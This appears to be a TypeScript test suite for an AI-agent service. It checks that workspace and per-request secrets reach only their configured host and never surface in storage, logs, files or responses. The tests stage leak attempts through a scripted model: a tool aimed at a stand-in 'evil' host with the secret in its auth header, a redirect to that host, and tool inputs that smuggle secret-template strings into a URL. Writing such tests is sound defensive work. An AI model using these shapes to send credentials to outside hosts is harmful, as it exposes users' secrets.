// Guards "a secret goes to its host and nowhere else" over the real API, with servers that count and repeat requests: a
// secret never reaches another workspace, and a secret from a request remains in nothing that can be read.

import { runInDurableObject } from 'cloudflare:test'
import { env } from 'cloudflare:workers'
import { beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { base64, utf8 } from '../../src/lib/bytes.ts'
import type { ApprovalInfo } from '../../src/thread/approvals/api.ts'
import {
  came,
  cameWhole,
  evil,
  forgetCame,
  given,
  obeys,
  upsertTool,
  resultsIn,
  says,
  serve,
} from './attack-rig.ts'
import { requested, foreignKey, got, refused, send, serveSkills } from './api-fixture.ts'
import { eventually } from '../../scripts/lab/rig/until.ts'

const VALUE = 'canary+Secret/of=the tests 0077'
const AUTH = { Authorization: 'Bearer {{secrets.TOKEN}}' }

beforeAll(() => serveSkills([{ name: 'alpha', description: 'Built in.' }]))
beforeEach(forgetCame)

/** The forms in which a secret could be found. */
const FORMS = [
  VALUE,
  base64(utf8(VALUE)),
  encodeURIComponent(VALUE),
  new URLSearchParams([['', VALUE]]).toString().slice(1),
  JSON.stringify(VALUE).slice(1, -1).replaceAll('/', '\\/'),
]

function expectNone(text: string): void {
  for (const form of FORMS) expect(text).not.toContain(form)
}

/** Every row of an object as text. */
async function rowsOf(stub: ReturnType<typeof env.THREADS.getByName>): Promise<string> {
  return runInDurableObject(stub, (_, { storage: { sql } }) =>
    sql
      .exec<{ name: string }>("SELECT name FROM sqlite_master WHERE type = 'table'")
      .toArray()
      .filter(({ name }) => !name.startsWith('_cf_'))
      .map(({ name }) => `${name}: ${JSON.stringify(sql.exec(`SELECT * FROM "${name}"`).toArray())}`)
      .join('\n'),
  )
}

async function putSecret(key: string, host: string): Promise<void> {
  await got(send('PUT /admin/secrets/TOKEN', { key, body: { value: VALUE, host } }))
}

describe('a secret of one workspace', () => {
  it('is never sent for a tool of another, whatever that one names or stores', async () => {
    const [mine, theirs] = [await foreignKey('leave-mine'), await foreignKey('leave-theirs')]
    await putSecret(mine, given)
    await upsertTool('theirs', { method: 'GET', url: `http://${given}/theirs`, headers: AUTH }, {}, theirs)
    const call = async (): Promise<string> => {
      obeys([[{ name: 'theirs', input: {} }]])
      const { thread, status } = await says({ message: 'Call it.' }, theirs)
      expect(status).toBe('completed')
      return (await resultsIn(thread, theirs)).map(({ text: words }) => words).join()
    }
    expect(await call()).toContain('There is no secret TOKEN in this workspace')
    expect(await got(send('GET /admin/secrets', { key: theirs }))).toEqual({ data: [] })
    await refused(send('GET /admin/secrets/TOKEN', { key: theirs }), 404, 'not_found')
    // Neither by the route that tests a tool, nor as a secret of a request.
    const tried = await send('POST /admin/tools/theirs/test', { key: theirs, body: { input: {} } })
    expectNone(await tried.text())
    expect(await came()).toEqual([])
    // It is sent to its own host.
    await upsertTool('mine', { method: 'GET', url: `http://${given}/mine`, headers: AUTH }, {}, mine)
    obeys([[{ name: 'mine', input: {} }]])
    await says({ message: 'Call it.' }, mine)
    expect((await cameWhole()).map(({ path, headers }) => [path, headers['authorization']])).toEqual([
      ['/mine', `Bearer ${VALUE}`],
    ])
  })

  it('is never sent to another host: by a definition, a redirect, or an input', async () => {
    const key = await foreignKey('leave-hosts')
    await putSecret(key, given)
    await upsertTool('away', { method: 'GET', url: `http://${evil}/take`, headers: AUTH }, {}, key)
    await upsertTool('moved', { method: 'GET', url: `http://${given}/moved`, headers: AUTH }, {}, key)
    await serve({ path: '/moved', body: '', status: 302, headers: { Location: `http://${evil}/take` } })
    await upsertTool(
      'named',
      { method: 'GET', url: `http://${given}/{{input.id}}`, query: { to: '{{input.to}}' } },
      {},
      key,
    )
    obeys([
      [{ name: 'away', input: {} }],
      [{ name: 'moved', input: {} }],
      [{ name: 'named', input: { id: '{{secrets.TOKEN}}', to: `@${evil}/{{secrets.TOKEN}}` } }],
    ])
    const { thread, status } = await says({ message: 'Call them.' }, key)
    expect(status).toBe('completed')
    expect((await resultsIn(thread, key)).map(({ failed }) => failed)).toEqual([true, true, false])
    const all = [...(await cameWhole()), ...(await (await fetch(`http://${evil}/_/came`)).json<object[]>())]
    expect(all.map((one) => ('path' in one ? one.path : ''))).toEqual([
      '/moved',
      '/%7B%7Bsecrets.TOKEN%7D%7D?to=%40127.0.0.1%3A' + `${evil.split(':')[1]}%2F%7B%7Bsecrets.TOKEN%7D%7D`,
    ])
  })
})

describe('a secret in a request', () => {
  it('reaches its tool after an approval, and is in no row, event, log, prompt, file, receipt or response', async () => {
    const workspace = 'leave-brought'
    const key = await foreignKey(workspace)
    const method = 'POST'
    await upsertTool(
      'ask',
      { method, url: `http://${given}/ask`, headers: AUTH },
      { request_secrets: ['TOKEN'] },
      key,
    )
    // The server repeats what it got, in each form, more often than a result can hold, so that the result becomes a
    // file.
    const body = `${FORMS.join('\n')}\n`.repeat(2_000)
    const headers = { Location: `/?token=${encodeURIComponent(VALUE)}`, 'Retry-After': VALUE }
    await serve({ path: '/ask', body, type: 'text/plain', headers })
    const lines: string[] = []
    const spies = (['log', 'info', 'warn', 'error', 'debug'] as const).map((level) =>
      vi.spyOn(console, level).mockImplementation((...words) => void lines.push(words.map(String).join(' '))),
    )
    // It also shows the secret on a page that is long enough to become a file.
    await serve({ path: '/shown', body, type: 'text/markdown; charset=windows-1252' })
    const page = `http://${given}/shown`
    obeys([[{ name: 'ask', input: {} }], [{ name: 'web_fetch', input: { url: page } }]])
    const { thread, run, status } = await says(
      { message: `Ask, then read ${page}`, secrets: { TOKEN: VALUE } },
      key,
    )
    expect(status).toBe('waiting')
    const base = `/v1/threads/${thread}`
    const stub = env.THREADS.getByName(`${workspace}/${thread}`)
    const during = await rowsOf(stub)
    let waits: readonly ApprovalInfo[] = []
    await eventually(async () => {
      waits = (await got<{ data: readonly ApprovalInfo[] }>(send('GET /v1/approvals', { key }))).data
      return waits.length === 1
    })
    expect(waits[0]?.request?.headers).toMatchObject({ Authorization: 'Bearer {{secrets.TOKEN}}' })
    const answer = { decision: 'approve', digest: waits[0]?.digest }
    const line = `POST ${base}/runs/${run}/approvals/${waits[0]?.tool_use_id}`
    const approved = await got(send(line, { key, body: answer }))
    await eventually(
      async () => (await got(send(`GET ${base}/runs/${run}`, { key })))['status'] === 'completed',
    )
    expect((await cameWhole()).map(({ headers: sent }) => sent['authorization'])).toEqual([
      `Bearer ${VALUE}`,
      undefined,
    ])
    for (const spy of spies) spy.mockRestore()

    const routes = [
      base,
      `${base}/messages?limit=100`,
      `${base}/runs`,
      `${base}/runs/${run}`,
      `${base}/runs/${run}/events`,
      `${base}/files`,
      '/v1/threads',
      '/v1/approvals',
      '/v1/tools',
      '/admin/tools',
      '/admin/tools/ask',
      '/admin/secrets',
      '/admin/usage',
    ]
    const answers = await Promise.all(
      routes.map(async (path) => (await send(`GET ${path}`, { key, headers: { Accept: '*/*' } })).text()),
    )
    const { data: files } = await got<{ data: { path: string; href: string }[] }>(
      send(`GET ${base}/files`, { key }),
    )
    expect(files).toHaveLength(2)
    const contents = await Promise.all(
      files.map(async ({ href }) => (await send(`GET ${href}`, { key })).text()),
    )
    for (const text of contents) expect(text).toContain('[secret TOKEN]')
    const rows = await rowsOf(stub)
    expect(rows).toContain('run_secrets: []')
    const others = await rowsOf(env.WORKSPACES.getByName(workspace))
    const all = [
      during,
      rows,
      others,
      ...lines,
      JSON.stringify([requested, waits, approved]),
      ...answers,
      ...contents,
    ]
    for (const text of all) expectNone(text)
  })
})
